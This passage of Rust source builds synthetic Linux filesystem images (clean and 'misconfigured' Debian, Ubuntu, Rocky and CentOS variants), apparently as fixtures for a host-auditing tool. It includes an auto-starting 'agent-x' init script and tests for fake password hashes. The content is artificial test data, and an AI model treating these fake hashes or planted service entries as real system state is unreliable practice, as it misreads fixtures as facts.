        "/etc/rc.d/init.d/network",
        b"#! /bin/bash\n# network       Bring up/down networking\n",
        0o755,
    );
    f.link("/etc/rc.d/rc3.d/S10network", "../init.d/network");
    f.write(
        "/etc/rc.d/init.d/agent-x",
        b"#! /bin/bash\n# chkconfig: 2345 99 01\n/opt/agent-x/run &\n",
        0o755,
    );
    f.link("/etc/rc.d/rc3.d/S99agent-x", "../init.d/agent-x");
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hashes_are_shaped_not_fixed() {
        let a = fake_hash(Password::Yescrypt);
        assert!(a.starts_with("$y$j9T$"));
        assert_eq!(fake_hash(Password::Des).len(), 13);
        assert_ne!(fake_hash(Password::Sha512), fake_hash(Password::Sha512));
    }

    #[test]
    fn dates() {
        assert_eq!(days_from_civil(1970, 1, 1), 0);
        assert_eq!(days_from_civil(2024, 3, 1), 19_783);
    }

    #[test]
    fn builds_every_variant() {
        for f in [
            debian_12_clean(),
            debian_10_misconfigured(),
            ubuntu_24_04_clean(),
            ubuntu_18_04_misconfigured(),
            rocky_9_clean(),
            centos_7_misconfigured(),
        ] {
            assert!(f.path("/etc/os-release").exists());
            assert!(f.path("/etc/passwd").exists());
        }
    }
}
